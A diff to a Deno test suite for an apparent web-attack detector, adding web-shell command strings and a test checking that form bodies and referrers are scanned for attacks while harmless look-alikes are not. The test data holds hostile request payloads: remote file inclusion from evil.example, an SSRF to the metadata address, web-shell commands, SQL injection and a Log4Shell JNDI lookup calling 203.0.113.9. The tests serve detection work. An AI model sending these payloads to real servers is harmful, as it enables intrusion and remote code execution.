@@ -39,6 +39,8 @@ const attacks: [target: string, kind: string][] = [
   ["/i.php?page=http://evil.example/shell.txt?", "remote file inclusion"],
   ["/fetch?url=http://169.254.169.254/latest/meta-data/", "request forgery (SSRF)"],
   ["/uploads/c99.php", "web shell"],
+  ["/uploads/a.php?cmd=whoami", "web shell"],
+  ["/uploads/a.jsp?x=1&exec=/bin/cat+/etc/hosts", "web shell"],
 ];
 
 Deno.test("attack strings are known in a request's target, however they are encoded", () => {
@@ -143,4 +145,25 @@ Deno.test("web scan is not a reader with dead links, a slow crawler, or a user o
   assertEquals(run(webScan, reader), []);
   assertEquals(run(webScan, times(40, (i) => request(i * 60, `/old/${i}`, 404))), []);
   assertEquals(run(webScan, times(40, (i) => request(i, `/owa/auth/15.1/resource${i}.js`, 200))), []);
+});
+
+Deno.test("a form is read like a target, a body of another type is not; of a referrer only what no page ever has in it", () => {
+  const type = "application/x-www-form-urlencoded";
+  const found = (fact: Partial<HttpFact>) =>
+    run(webAttack, [
+      update(0, {
+        src_ip: "203.0.113.9",
+        dst_ip: "10.0.0.80",
+        dst_port: 80,
+        facts: { http: [{ method: "POST", uri: "/login", host: "www.example", ...fact }] },
+      }),
+    ]).map((one) => one.title);
+  const jndi = "uname=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D&password=";
+  assertEquals(found({ body: jndi, content_type: type }), ["Web attack: JNDI look-up (Log4Shell)"]);
+  assertEquals(found({ body: "user=admin%27--&pass=1", content_type: type }), ["Web attack: SQL injection"]);
+  assertEquals(found({ body: jndi, content_type: "text/plain" }), []);
+  assertEquals(found({ body: "user=o%27neil&pass=;-)", content_type: type }), []);
+  assertEquals(found({ referrer: "${jndi:ldap://203.0.113.9/a}" }), ["Web attack: JNDI look-up (Log4Shell)"]);
+  assertEquals(found({ referrer: "http://www.example/?id=1' or '1'='1" }), []);
+  assertEquals(found({ uri: "/admin.php?cmd=edit&command=list" }), []);
 });
